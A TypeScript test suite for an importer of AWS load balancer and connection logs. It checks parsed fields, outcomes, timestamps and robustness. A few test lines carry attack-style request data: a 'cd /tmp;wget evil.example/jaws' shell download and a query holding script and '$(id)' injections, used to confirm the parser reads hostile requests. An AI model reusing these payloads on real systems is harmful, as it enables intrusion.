import { describe, expect, it } from 'vitest';
import { formatMicros, type Timestamp } from '../../../shared/base/time.ts';
import type { Draft } from '../../../shared/events/event.ts';
import { eventOf, importLines } from '../../support/import-lines.ts';
import { importBytes, readSample } from '../../support/importer-properties.ts';
import { expectNoBlowUp } from '../../support/watchdog.ts';

const ARN = 'arn:aws:elasticloadbalancing:eu-central-1:481516234210:targetgroup/edge-web/73e2d6bc24d8a067';
const alb = (
  part: {
    type?: string;
    client?: string;
    target?: string;
    status?: string;
    request?: string;
    agent?: string;
    tail?: string;
    error?: string;
  } = {},
) =>
  `${part.type ?? 'https'} 2023-11-14T09:22:49.356586Z app/edge-web/50dc6c495c0c9188 ${part.client ?? '203.0.113.24:44325'} ${part.target ?? '10.40.12.21:8443'} 0.013 0.164 0.000 ${part.status ?? '200'} 200 391 1000 "${part.request ?? 'GET https://www.halcyonedge.example:443/ HTTP/1.1'}" "${part.agent ?? 'curl/8.4.0'}" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 ${ARN} "Root=1-58337262-36d228ad5d99923122bbe354" "www.halcyonedge.example" "-" 2 2023-11-14T09:22:48.624000Z "waf,forward" "-" "${part.error ?? '-'}" ${part.tail ?? '"10.40.12.21:8443" "200" "-" "-"'}`;
const nlb = (alert = '-', cipher = 'ECDHE-RSA-AES128-SHA', created = ' 2020-04-01T08:51:20') =>
  `tls 2.0 2020-04-01T08:51:42 net/edge-tls/c6e77e28c25b2234 g3d4b5e8bb8464cd 203.0.113.24:51341 10.40.100.185:443 5 2 98 246 ${alert} arn:aws:acm:x - ${cipher} tlsv12 - edge.halcyonedge.example h2 h2 "h2","http/1.1"${created}`;
const at = (time: Timestamp | null | undefined) =>
  time === null || time === undefined ? null : formatMicros(time.micros);

describe('Application Load Balancer', () => {
  it('reads a request: when it came, when it was answered, between whom', () => {
    const event = eventOf(alb());
    expect(event).toMatchObject({
      source: 'aws:elb',
      action: 'GET',
      category: 'network',
      outcome: 'success',
      srcIp: '203.0.113.24',
      srcPort: 44325,
      dstIp: '10.40.12.21',
      dstPort: 8443,
      userAgent: 'curl/8.4.0',
      system: 'app/edge-web/50dc6c495c0c9188',
      bytes: 1391,
      targets: [{ type: 'url', name: 'https://www.halcyonedge.example:443/' }],
      message:
        '203.0.113.24:44325 requested GET https://www.halcyonedge.example:443/ through app/edge-web/50dc6c495c0c9188, served by 10.40.12.21:8443',
    });
    expect([at(event.time), at(event.timeEnd)]).toEqual([
      '2023-11-14T09:22:48.624000Z',
      '2023-11-14T09:22:49.356586Z',
    ]);
    expect(event.time).toMatchObject({
      zone: 'stated',
      precision: 'microsecond',
      text: '2023-11-14T09:22:48.624000Z',
    });
    expect(event.nativeId).toBeUndefined();
  });

  it.each(['http', 'https', 'h2', 'grpc', 'grpcs', 'ws', 'wss'])('reads %s', (type) => {
    expect(eventOf(alb({ type })).srcIp).toBe('203.0.113.24');
  });

  it.each([
    ['200', '-', 'success', undefined],
    ['301', '-', 'success', undefined],
    ['101', '-', 'success', undefined],
    ['403', 'WAFBlocked', 'failure', '403 WAFBlocked'],
    ['404', '-', 'failure', '404'],
    ['502', 'LambdaInvalidResponse', 'failure', '502 LambdaInvalidResponse'],
    ['-', '-', 'unknown', undefined],
  ])('status %s (%s) is %s', (status, error, outcome, reason) => {
    const event = eventOf(alb({ status, error }));
    expect([event.outcome, event.reason]).toEqual([outcome, reason]);
  });

  it.each([
    ['"10.40.12.21:8443" "200" "-" "-" TID_1234abcd5678ef90 "-" "-" "-" 10.0.0.9 "of tomorrow"'],
    ['10.40.12.21:8443 200 "-" "-"'],
    ['"10.40.12.21:8443 10.40.12.22:8443" "502 200" "Ambiguous" "SpaceInUri"'],
  ])('ignores what it does not need at the end: %s', (tail) => {
    expect(eventOf(alb({ tail }))).toEqual(eventOf(alb()));
  });

  it('reads a line with several blanks behind its type, as in AWS’s documentation', () => {
    expect(eventOf(alb().replace('https ', 'https    '))).toEqual(eventOf(alb()));
  });

  it('reads the lines of the first version, which end with the trace id', () => {
    const old = alb().split(' "www.halcyonedge.example"')[0]!;
    const event = eventOf(old);
    expect([at(event.time), event.timeEnd]).toEqual(['2023-11-14T09:22:49.356586Z', undefined]);
  });

  it.each([
    ['[2001:db8::24]:443', '2001:db8::24', 443],
    ['2001:db8::24:443', '2001:db8::24', 443],
    ['203.0.113.24:1', '203.0.113.24', 1],
    ['-', undefined, undefined],
  ])('reads the client %s', (client, ip, port) => {
    const event = eventOf(alb({ client }));
    expect([event.srcIp, event.srcPort]).toEqual([ip, port]);
  });

  it.each([
    [
      'GET http://h:80/shell?cd+/tmp;wget+ evil.example/jaws HTTP/1.1',
      'GET',
      'http://h:80/shell?cd+/tmp;wget+ evil.example/jaws',
    ],
    ['- http://host:80- -', 'request', 'http://host:80-'],
    ['- http://host:80-/ ', 'request', 'http://host:80-/'],
    [
      'GET https://h:443/?x=<script>alert(1)</script>&y=$(id) HTTP/1.1',
      'GET',
      'https://h:443/?x=<script>alert(1)</script>&y=$(id)',
    ],
    ['- - - ', 'request', undefined],
  ])('reads the request %s', (request, action, url) => {
    const event = eventOf(alb({ request }));
    expect([event.action, event.targets?.[0]?.name]).toEqual([action, url]);
  });

  it.each([
    ['-', undefined],
    ['say \\x22hi\\x22', 'say "hi"'],
    ['say \\"hi\\" there', 'say "hi" there'],
    ['raw "quote" ends here', 'raw "quote" ends here'],
    ['"', '"'],
  ])('reads the user agent %s, and what follows it', (agent, read) => {
    const event = eventOf(alb({ agent }));
    expect([event.userAgent, at(event.time)]).toEqual([read, '2023-11-14T09:22:48.624000Z']);
  });

  it('says so where quotes moved the fields beyond finding', () => {
    const { events, issues } = importLines([alb({ agent: `a${'" '.repeat(100)}` })]);
    expect(events).toHaveLength(1);
    expect(events[0]!.draft).toMatchObject({ srcIp: '203.0.113.24', outcome: 'success' });
    expect(issues.join()).toContain('line.fields');
  });
});

describe('Network Load Balancer', () => {
  it('reads a connection, whose times are UTC although they do not say so', () => {
    const event = eventOf(nlb(), 'Asia/Tokyo');
    expect(event).toMatchObject({
      action: 'tls',
      outcome: 'success',
      srcIp: '203.0.113.24',
      dstIp: '10.40.100.185',
      bytes: 344,
      targets: [{ type: 'host', name: 'edge.halcyonedge.example' }],
    });
    expect([at(event.time), at(event.timeEnd)]).toEqual([
      '2020-04-01T08:51:20.000000Z',
      '2020-04-01T08:51:42.000000Z',
    ]);
    expect(event.time).toMatchObject({ zone: 'assumed' });
  });

  it('reads a line without the time of its beginning', () => {
    const event = eventOf(nlb('-', undefined, ''));
    expect([at(event.time), event.timeEnd]).toEqual(['2020-04-01T08:51:42.000000Z', undefined]);
  });

  it.each([
    [nlb('46'), 'failure', 'TLS alert 46'],
    [nlb('-', '-'), 'failure', 'no TLS handshake'],
    [nlb('0'), 'success', undefined],
  ])('tells a handshake that failed', (line, outcome, reason) => {
    const event = eventOf(line);
    expect([event.outcome, event.reason]).toEqual([outcome, reason]);
  });
});

describe('Classic Load Balancer', () => {
  it.each([
    [
      '2021-05-13T23:39:43.945958Z edge 203.0.113.24:2817 10.40.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://h:80/ HTTP/1.1" "curl/7.38.0" - -',
      'GET',
      'success',
    ],
    [
      '2021-05-13T23:39:43.945958Z edge 203.0.113.24:2817 10.40.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://h:80/ HTTP/1.1"',
      'GET',
      'success',
    ],
    [
      '2021-05-13T23:39:43.945958Z edge 203.0.113.24:2817 - -1 -1 -1 503 0 0 0 "GET http://h:80/ HTTP/1.1" "curl/7.38.0" - -',
      'GET',
      'failure',
    ],
    [
      '2021-05-13T23:39:43.945958Z edge 203.0.113.24:2817 10.40.0.1:80 0.001 0.001 0.001 - - -1 -1 "- - - " "-" - -',
      'tcp',
      'unknown',
    ],
  ])('%s', (line, action, outcome) => {
    const event = eventOf(line);
    expect([event.action, event.outcome, at(event.time)]).toEqual([
      action,
      outcome,
      '2021-05-13T23:39:43.945958Z',
    ]);
  });
});

describe('connection log', () => {
  it.each([
    ['Success', 'TLSv1.2', 'success', undefined],
    ['Failed:ClientCertUntrusted', 'TLSv1.2', 'failure', 'Failed:ClientCertUntrusted'],
    ['-', 'TLSv1.3', 'success', undefined],
    ['-', '-', 'unknown', undefined],
  ])('%s over %s is %s', (verified, protocol, outcome, reason) => {
    const line = `2024-10-04T17:05:15.514108Z 203.0.113.24 36280 443 ${protocol} - 4.036 "CN=edge-7,O=Halcyon Edge" NotBefore=x;NotAfter=y FEF2 ${verified} TID_1`;
    expect(eventOf(line)).toMatchObject({
      action: 'connection',
      outcome,
      srcIp: '203.0.113.24',
      srcPort: 36280,
      dstPort: 443,
    });
    expect(eventOf(line).reason).toBe(reason);
  });
});

describe('load balancer logs', () => {
  it('of all kinds may stand in one file, and what is none is refused with its issue', () => {
    const { events, rejected, issues } = importLines([alb(), nlb(), 'hello', alb().slice(0, 120)]);
    expect([events.length, rejected, issues.length]).toEqual([2, 2, 2]);
  });

  it('are not claimed by others: a flow behind CloudWatch’s stamp', () => {
    const flow =
      '2023-11-14T09:22:49.000Z 2 481516234210 eni-1 10.0.0.1 10.0.0.2 1 2 6 1 40 1699953769 1699953829 ACCEPT OK';
    expect(importLines([flow]).detection).toMatch(/^aws:vpcflow/);
  });

  it.each(['"', '" ', ' "', '\\"', ' ', '-', '\\'])('take linear time for a megabyte of %j', (piece) => {
    const text = piece.repeat(Math.ceil((1024 * 1024) / piece.length));
    for (const line of [
      alb({ agent: text }),
      alb({ request: text }),
      `https 2023-11-14T09:22:49.356586Z ${text}`,
      alb({ tail: text }),
    ])
      expectNoBlowUp(() => importLines([line]));
  });
});

describe('lines inside what shippers and searches make of them', () => {
  const drafts = (lines: readonly string[], timezone = 'UTC') =>
    importLines(lines, timezone).events.map((one) => one.draft as Partial<Draft>);
  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

  it.each([
    [
      'message beside other fields',
      (line: string) => JSON.stringify({ host: 'a', message: line, input: {} }),
    ],
    ['event.original', (line: string) => JSON.stringify({ event: { original: line }, url: {} })],
  ])('JSON with %s', (_name, wrapped) => {
    const [one, other] = drafts([wrapped(alb()), wrapped(nlb())]);
    expect(one).toMatchObject({ action: 'GET', srcIp: '203.0.113.24', outcome: 'success' });
    expect(other).toMatchObject({ action: 'tls', srcPort: 51341 });
  });

  it.each(['_raw', '@message', 'message'])('a table with the line in %s', (column) => {
    const rows = [`_time,${column}`, `2023-11-14,${cell(alb())}`, `2023-11-14,${cell(nlb())}`];
    expect(drafts(rows).map((one) => one.action)).toEqual(['GET', 'tls']);
  });

  it('a table of other lines is not claimed', () => {
    expect(importLines(['_time,_raw', '2023-11-14,"hello world"']).detection).toMatch(/^unknown/);
  });
});

describe('tables of Athena', () => {
  const imported = (name: string) => importBytes(readSample(`elb/${name}`), 65_536);
  const draftsOf = (name: string) => imported(name).events.map((one) => one.draft as Partial<Draft>);

  it.each(['athena-application.csv', 'athena-application.ndjson'])('%s says what its lines said', (name) => {
    const [whole, refused] = draftsOf(name);
    expect(whole).toMatchObject({
      action: 'GET',
      outcome: 'success',
      srcIp: '203.0.113.24',
      srcPort: 44325,
      dstIp: '10.40.12.21',
      dstPort: 8443,
      bytes: 1391,
      system: 'app/edge-web/50dc6c495c0c9188',
      userAgent: 'Mozilla/5.0 (X11; "quoted" Linux)',
      targets: [{ type: 'url', name: 'https://www.halcyonedge.example:443/reports?a=1, 2' }],
    });
    expect([at(whole?.time), at(whole?.timeEnd)]).toEqual([
      '2023-11-14T09:22:48.624000Z',
      '2023-11-14T09:22:49.356586Z',
    ]);
    expect(refused).toMatchObject({
      action: 'request',
      outcome: 'failure',
      reason: '502 LambdaInvalidResponse',
      srcIp: '2001:db8::24',
      srcPort: 40000,
    });
    expect(refused?.dstIp).toBeUndefined();
    expect(imported(name).issues).toEqual([]);
  });

  it('of a Classic Load Balancer: a column is missing and said once; a time without a zone is assumed', () => {
    const [assumed, stated] = draftsOf('athena-classic.csv');
    expect(assumed?.time).toMatchObject({ zone: 'assumed', text: '2023-11-14 09:12:20.694' });
    expect(stated?.time).toMatchObject({ zone: 'stated' });
    expect([assumed?.outcome, stated?.outcome, stated?.reason]).toEqual(['success', 'failure', '503']);
    expect(imported('athena-classic.csv').issues).toEqual([
      expect.stringMatching(/^record 1 .*source.lossy \(note\) the table has no column useragent$/),
    ]);
  });

  it('of a Network Load Balancer', () => {
    const [opened, refused] = draftsOf('athena-network.csv');
    expect(opened).toMatchObject({ action: 'tls', outcome: 'success', dstPort: 443, bytes: 344 });
    expect(at(opened?.time)).toBe('2023-11-14T09:25:20.000000Z');
    expect(refused).toMatchObject({ outcome: 'failure', reason: 'TLS alert 40', srcIp: '193.142.58.126' });
  });
});
